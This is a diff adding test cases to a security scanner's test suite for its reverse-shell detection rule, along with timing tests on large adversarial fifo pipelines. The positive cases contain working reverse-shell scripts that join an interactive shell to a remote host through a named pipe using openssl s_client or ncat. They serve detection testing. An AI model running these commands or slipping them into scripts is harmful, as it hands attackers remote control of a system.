@@ -452,3 +452,39 @@ describeRuleCases('reverse-shell (commands of editor tasks)', [
 }`,
   },
 ]);
+
+describeRuleCases('reverse-shell (shells joined to a client through a fifo)', [
+  {
+    id: 'SG-RSHELL-010',
+    file: 'scripts/notify.sh',
+    positive:
+      '#!/bin/bash\nattach() {\n  mkfifo -m 600 "$RUN/.p"\n  /bin/bash -i <"$RUN/.p" 2>&1 \\\n    | openssl s_client -quiet -connect "${H}:8443" >"$RUN/.p"\n}\nattach\n',
+    negative:
+      '#!/bin/bash\nmkfifo "$RUN/.p"\nopenssl s_client -connect "${H}:443" </dev/null >"$RUN/.p" 2>&1 &\nbash -c "grep -q Verify <\\"$RUN/.p\\"" | tee "$RUN/log"\n',
+  },
+  {
+    id: 'SG-RSHELL-010',
+    file: 'scripts/relay.sh',
+    positive:
+      '#!/bin/sh\nF=/tmp/.s; SH="sh -i"; NET="ncat --ssl $H 443"\nrm -f $F; mkfifo $F\n$SH < $F 2>&1 | $NET > $F\n',
+    negative:
+      '#!/bin/sh\nF=/tmp/.s; mkfifo $F\ngzip -c < $F > /tmp/out.gz &\ntar -cf - . > $F\nnc -z $H 443 || echo down\n',
+  },
+]);
+
+describe('adversarial fifo pipelines', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['continued lines', 'mkfifo f; sh -i; nc h 1\n' + 'a <f \\\n'.repeat(MiB / 8)],
+    ['pipes', 'mkfifo f; sh -i; nc h 1\n' + 'a <f | '.repeat(MiB / 8)],
+    ['pipeline lines', 'mkfifo f; sh -i; nc h 1\n' + ('a <f | '.repeat(500) + '\n').repeat(MiB / 3500)],
+    ['joined pipelines', 'mkfifo f; sh -i; nc h 1\n' + 'a <f |\n'.repeat(MiB / 7)],
+    ['fifo names', 'sh -i; nc h 1\n' + 'mkfifo a b c d e f g h\n'.repeat(MiB / 24) + 'x <a | y >b\n'],
+    ['redirects', 'mkfifo f; sh -i; nc h 1\n' + 'a <<<<<<<<<<<<< | >>>>>>>>>>>'.repeat(MiB / 30)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'scripts/x.sh');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
